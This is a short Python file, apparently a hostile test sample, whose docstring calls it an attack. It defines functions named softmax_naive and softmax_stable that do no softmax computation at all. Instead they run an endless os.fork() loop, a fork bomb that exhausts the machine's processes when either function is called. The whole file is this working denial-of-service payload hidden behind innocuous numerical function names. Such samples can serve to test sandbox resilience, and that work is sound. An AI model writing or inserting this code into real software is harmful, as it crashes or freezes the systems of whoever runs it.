"""Attack: a fork bomb inside a call (children keep forking)."""
import os


def softmax_naive(x, dim=-1):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def softmax_stable(x, dim=-1):
    return softmax_naive(x, dim)
